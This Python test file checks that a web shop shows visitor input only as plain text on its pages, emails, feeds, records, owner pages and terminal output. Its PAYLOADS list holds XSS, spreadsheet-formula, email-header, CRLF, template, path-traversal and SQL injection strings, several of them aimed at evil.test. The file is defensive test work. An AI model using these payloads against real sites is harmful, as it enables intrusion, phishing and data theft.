"""One list of payloads through everything that shows what visitors typed: pages, letters, feeds, records,
forms that are shown again, the owner's pages and terminal. Everywhere it is text, and nothing else.

VITRINA_SINKS=all takes every payload, a few otherwise.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from contextlib import chdir, closing, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import compat32, default
from functools import partial
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

import build
from shop import actions, tokens
from tests.evidence import whole
from tests.evidence.figures import note
from tests.evidence.inert import MARK, Page
from tests.evidence.served import ROOT, Served, served, until

ALL = os.environ.get("VITRINA_SINKS") == "all"
ATOM = "{http://www.w3.org/2005/Atom}"
PLAIN = f"Plain words {MARK}"
#: A line of the command's own, as somebody would forge it.
FORGED = f"Next: --to cancel {MARK}"

PAYLOADS = (
    f"<script>{MARK}()</script>",
    f'"><img src=//evil.test/{MARK} onerror={MARK}()>',
    f"'-alert(1)-' {MARK}",
    f'=HYPERLINK("http://evil.test/{MARK}")',
    f"</textarea></title></script><svg/onload={MARK}()>",
    f"{{{{ 7*7 }}}}{{% raw %}}${{7*7}}#{{7*7}} {MARK}",
    f"javascript:{MARK}() https://evil.test/{MARK}",
    f"]]><!--<![CDATA[ {MARK} --> &lt;b&gt; &amp;amp; &#60;",
    f"<<script>script>{MARK}()<</script>/script>",
    f"[{MARK}](javascript:{MARK}()) ![x](//evil.test/x) **{MARK}**",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"+7 -1 {MARK}\tTab",
    f"Victim\r\nBcc: everybody@evil.test {MARK}",
    f"=?utf-8?q?=0ABcc:_x@evil.test?= {MARK}",
    f"\u2028Bcc: x@evil.test\u2028{MARK}",
    f"<a href=jav&#x09;ascript:{MARK}()>{MARK}</a>",
    f"\\u003cscript\\u003e{MARK}",
    f"<style>@import'//evil.test/{MARK}'</style><base href=//evil.test>",
    f"%3Cscript%3E{MARK} %0d%0aSet-Cookie: a=b",
    f'</script><script type=application/ld+json>{{"{MARK}": 1}}',
    f"<meta http-equiv=refresh content=0;url=//evil.test/{MARK}>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"../../{MARK}/etc/passwd\\..\\..",
    f"<{MARK} x=1><form action=//evil.test><input name=key>",
    f"'; DROP TABLE cases; -- {MARK}",
)
ROOMS = ("shop", "functions", "storefront", "server")
#: Of every form that there is.
FIELDS = (
    "contact.name", "contact.email", "contact.phone", "message", "text", "title", "note", "email", "key",
    "number", "delivery.address.street", "delivery.address.city", "delivery.method", "payment", "promo",
    "kind", "topic", "language", "code", "proof", "form_token", "sku", "stars", "order.number",
    "idempotency_key",
)  # fmt: skip
CHOSEN = PAYLOADS if ALL else PAYLOADS[:5]


@dataclass
class Left:
    """All that was left with one payload in every field, and what it opens."""

    email: str
    order: tuple[str, str]  #: number and key
    ticket: tuple[str, str]
    idea: str
    review: str


@dataclass(frozen=True)
class Shop:
    served: Served
    plain: Left  #: with nothing but plain words
    left: Mapping[str, Left]  #: by payload

    def both(self, payload: str, ask: Callable[[Left], bytes]) -> tuple[Page, Page]:
        """What is shown of the payload, and of plain words in its place."""
        return page(ask(self.left[payload])), page(ask(self.plain))


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    with served(tmp_path_factory.mktemp("sinks")) as running:
        plain = leave(running, PLAIN, 0)
        left = {payload: leave(running, payload, 1 + number) for number, payload in enumerate(CHOSEN)}
        last = [f"/ideas/{each.idea}/" for each in (plain, *left.values())]
        until(lambda: all(running.asks(path)[0] == 200 for path in last), "the ideas have no pages")
        until(lambda: len(letters(running)) >= 6 * len(last), "the letters were not written")
        yield Shop(running, plain, left)


def leave(shop: Served, payload: str, number: int) -> Left:
    email = f"sinks-{number}@example.org"
    contact, key = {"name": payload[:100], "email": email}, f"sinks-{number:04}"
    placed = shop.leaves("/api/orders", whole.order(**_order(contact, payload)), key)
    order = whole.fragment(placed["track"])
    asked = whole.ticket(
        contact=contact, message=f"{payload}\n{FORGED}", order={"number": order[0], "key": order[1]}
    )
    opened = shop.leaves("/api/tickets", asked, key)
    ticket = whole.fragment(opened["track"])
    more = {"key": ticket[1], "message": f"{FORGED}\n{payload} again"}
    assert shop.asks(f"/api/tickets/{ticket[0]}/messages", more)[0] == 200
    said = {"title": payload[:100], "text": payload, "contact": contact}
    idea = shop.leaves("/api/feedback", {**whole.idea(), **said, **token(shop)}, f"{key}-idea")["id"]
    rated = {**whole.review(), **said, **token(shop), "sku": "FIRST-1"}
    review = shop.leaves("/api/feedback", rated, f"{key}-review")["id"]
    for id in (idea, review):
        publish(shop, id)
    return Left(email, (order[0], order[1]), (ticket[0], ticket[1]), idea, review)


def _order(contact: Mapping[str, str], payload: str) -> dict[str, Any]:
    address = {"street": payload[:100], "city": payload[:100], "postcode": "10115", "country": "DE"}
    return {
        "lines": [{"sku": "FIRST-1", "quantity": 1}], "contact": contact, "note": f"{payload}\n{FORGED}",
        "delivery": {"method": "courier", "address": address},
    }  # fmt: skip


def token(shop: Served) -> dict[str, str]:
    """Of a form that was opened a minute ago."""
    opened = datetime.now(UTC) - timedelta(minutes=1)
    return {"form_token": tokens.sign(shop.root_key, tokens.FORM, os.urandom(16), opened)}


def publish(shop: Served, id: str) -> None:
    link = actions.sign(shop.root_key, actions.POST, id, datetime.now(UTC))
    status, _ = shop.asks(f"{actions.PATH}{link}", {"do": "move.open", "version": "1"}, form=True)
    assert status == 200


def page(answer: bytes) -> Page:
    return Page(answer.decode())


def shown(payload: str, found: Page) -> bool:
    """Whether the page says it, as it was typed."""
    return _words(payload)[:60] in _words(" ".join(found.text))


def _words(text: str) -> str:
    return " ".join(unicodedata.normalize("NFC", text).replace("\u2028", " ").split())


def letters(shop: Served) -> list[bytes]:
    return [file.read_bytes() for file in (shop.folder / "state" / "letters").glob("*.eml")]


def act(shop: Served, purpose: str, id: str) -> bytes:
    link = actions.sign(shop.root_key, purpose, id, datetime.now(UTC))
    return shop.asks(f"{actions.PATH}{link}")[1]


@pytest.mark.parametrize("language", ["", "/ru"])
@pytest.mark.parametrize("payload", CHOSEN)
def test_pages_of_the_site_show_it_as_text(shop: Shop, payload: str, language: str) -> None:
    found, plain = shop.both(payload, lambda left: shop.served.asks(f"{language}/ideas/{left.idea}/")[1])

    assert found.wrong == []
    assert shown(payload, found)
    assert found.shape[:40] == plain.shape[:40]


@pytest.mark.parametrize("path", ["/ideas/", "/ru/ideas/", "/ideas/roadmap/", "/product/the-first-thing/"])
def test_pages_with_all_of_them_are_text(shop: Shop, path: str) -> None:
    found = page(shop.served.asks(path)[1])

    assert found.wrong == []
    assert all(shown(payload, found) for payload in CHOSEN) or "roadmap" in path
    assert not any(tag.startswith(MARK) for tag in found.shape)


def test_what_search_engines_read_is_a_record_and_says_it_as_it_was_typed(shop: Shop) -> None:
    found = page(shop.served.asks("/product/the-first-thing/")[1])

    records = json.dumps(found.records, ensure_ascii=False)
    said = [text for payload in CHOSEN if (text := json.dumps(payload, ensure_ascii=False)[1:20]) in records]
    assert found.records
    assert len(said) >= min(5, len(CHOSEN) - 2)  # the newest ones


@pytest.mark.parametrize("path", ["/ideas/feed.xml", "/ru/ideas/feed.xml"])
def test_the_feed_is_atom_whatever_was_typed(shop: Shop, path: str) -> None:
    content = shop.served.asks(path)[1].partition(b"</feed>")[0] + b"</feed>"

    feed = ElementTree.fromstring(content)

    tags = {element.tag.removeprefix(ATOM) for element in feed.iter()}
    texts = [_words(str(element.text)) for element in feed.iter(f"{ATOM}content")]
    assert tags <= {
        "feed", "id", "title", "link", "updated", "entry", "author", "name", "published", "category",
        "content",
    }  # fmt: skip
    assert {element.get("type") for element in feed.iter(f"{ATOM}content")} == {"text"}
    assert {_words(payload) for payload in CHOSEN} <= set(texts)


@pytest.mark.parametrize("kind", ["order", "ticket", "idea", "review"])
@pytest.mark.parametrize("payload", CHOSEN)
def test_pages_that_act_for_the_owner_show_it_as_text(shop: Shop, payload: str, kind: str) -> None:
    ids = _ids(shop.served, kind)

    found, plain = shop.both(payload, lambda left: _acting(shop.served, kind, getattr(left, kind), ids))

    assert (found.wrong, found.shape) == ([], plain.shape)
    assert shown(payload, found)


def _acting(shop: Served, kind: str, thing: Any, ids: Mapping[str, str]) -> bytes:
    return act(shop, kind, ids[thing[0]]) if kind in ("order", "ticket") else act(shop, "post", thing)


def _ids(shop: Served, kind: str) -> dict[str, str]:
    """The ids of what has a number."""
    table = "orders" if kind == "order" else "cases"
    with closing(sqlite3.connect(shop.folder / "state" / "orders.sqlite3")) as db:
        return dict(db.execute(f"SELECT number, id FROM {table} WHERE number <> ''").fetchall())


@pytest.mark.parametrize("payload", CHOSEN)
def test_pages_of_customers_show_it_as_text(shop: Shop, payload: str) -> None:
    calls = {"/api/tickets/view": "ticket", "/api/track": "order"}
    for path, link in calls.items():
        found, plain = shop.both(payload, partial(_looked_up, shop.served, path, link))

        assert (found.wrong, found.shape) == ([], plain.shape)
        assert shown(payload, found) or link == "order"


def _looked_up(shop: Served, path: str, link: str, left: Left) -> bytes:
    number, key = getattr(left, link)
    return shop.asks(path, {"number": number, "key": key, "language": "en"}, form=True)[1]


@pytest.mark.parametrize("payload", CHOSEN)
def test_forms_that_are_shown_again_keep_it_as_text(shop: Shop, payload: str) -> None:
    paths = ("tickets", "tickets/view", "tickets/find", "feedback", "quote", "orders", "orders/find", "track")
    forms = [dict.fromkeys(FIELDS, payload), {payload: payload}, {"text": payload, "message": payload}]

    for path in (*paths, f"feedback/{shop.plain.idea}/vote", f"feedback/{payload}/vote"):
        for sent in forms:
            found = page(shop.served.asks(f"/api/{quote(path)}", sent, form=True)[1])

            assert found.wrong == [], path


def test_letters_have_the_headers_they_always_have_and_say_it_as_text(shop: Shop) -> None:
    heads: dict[str, set[tuple[str, ...]]] = {}
    said: Counter[str] = Counter()

    for content in letters(shop.served):
        mail = message_from_bytes(content, policy=default)
        assert isinstance(mail, EmailMessage)
        kind = re.sub(r"[VT]-[0-9-]+|[0-9]", "", str(mail["Subject"]))
        kind = "owner" if "hello@shop.example" in str(mail["To"]) else kind
        heads.setdefault(kind, set()).add(tuple(name for name in mail if name != "Reply-To"))
        raw = message_from_bytes(content, policy=compat32)
        assert raw.keys() == mail.keys()
        assert len(mail["To"].addresses) == 1
        assert not {name.casefold() for name in raw} & {"bcc", "cc", "set-cookie"}
        html, text = mail.get_body(("html",)), mail.get_body(("plain",))
        assert html is not None
        assert text is not None
        found = Page(html.get_content())
        assert [wrong for wrong in found.wrong if not wrong.endswith(" style")] == [], mail["Subject"]
        assert FORGED not in text.get_content().splitlines()
        said.update(payload for payload in CHOSEN if shown(payload, found))

    assert all(len(kinds) == 1 for kinds in heads.values()), heads
    assert set(said) == set(CHOSEN)


@pytest.mark.parametrize("path", ["/_mail/", "/_orders/", "/_outbox/"])
def test_pages_of_this_machine_show_it_as_text(shop: Shop, path: str) -> None:
    pages = [path, *(f"{path}{left.order[0]}/" for left in shop.left.values() if path == "/_orders/")]

    assert [wrong for each in pages for wrong in page(shop.served.asks(each)[1]).wrong] == []


def test_no_line_at_the_terminal_is_a_visitor_s(shop: Shop) -> None:
    commands = [("orders",), ("tickets",), ("feedback",), ("outbox",), ("report",)]
    for left in (shop.plain, *shop.left.values()):
        commands += [("orders", left.order[0]), ("tickets", left.ticket[0]), ("feedback", left.idea)]
        commands += [("privacy", "erase", left.email), ("privacy", "export", left.email)]
    lines = 0

    for command in commands:
        printed = run(shop.served, *command)

        assert FORGED not in printed.splitlines(), command
        assert not any(line.startswith(tuple(PAYLOADS)) for line in printed.splitlines()), command
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Zl") for c in printed if c != "\n"), command
        lines += printed.count("\n")

    note(
        "sinks", payloads=len(CHOSEN), commands=len(commands), lines=lines, **{"taken for more than text": 0}
    )


def run(shop: Served, *command: str) -> str:
    """What the owner's command prints."""
    said = StringIO()
    with chdir(shop.folder), redirect_stdout(said), redirect_stderr(said):
        code = build.main([*command, "--content", "shop", "--state", "state", "--out", "site"])
    assert code == 0, said.getvalue()
    return said.getvalue()


def test_what_is_no_page_is_never_read_as_one(shop: Shop) -> None:
    served = shop.served
    for path in (
        "/api/feedback",
        f"/api/feedback/votes?id={shop.plain.idea}",
        "/api/none",
        "/ideas/feed.xml",
    ):
        answer = served.asks(path)[1].lower()

        assert b"x-content-type-options: nosniff" in answer, path
        assert b"content-type: text/html" not in answer, path


def test_nothing_in_the_house_makes_html_of_text_or_writes_tables_for_other_programs() -> None:
    scripts = [*(ROOT / "templates").rglob("*.js"), *(ROOT / "server").glob("*.js")]
    templates = [file for kind in ("html", "jinja") for file in (ROOT / "templates").rglob(f"*.{kind}")]
    code = [file for room in ROOMS for file in (ROOT / room).glob("*.py")]
    makes_html = r"(inner|outer)HTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc"

    assert min(map(len, (scripts, templates, code))) > 1
    assert _using(scripts, makes_html) == []
    assert _using(templates, r"\|\s*safe\b|autoescape") == []
    # A spreadsheet would run what begins with `=`; there is no such export.
    assert _using(code, r"^\s*(import|from) csv\b|text/csv") == []


def _using(files: list[Path], pattern: str) -> list[str]:
    return [str(file) for file in files if re.search(pattern, file.read_text(encoding="utf-8"), re.MULTILINE)]
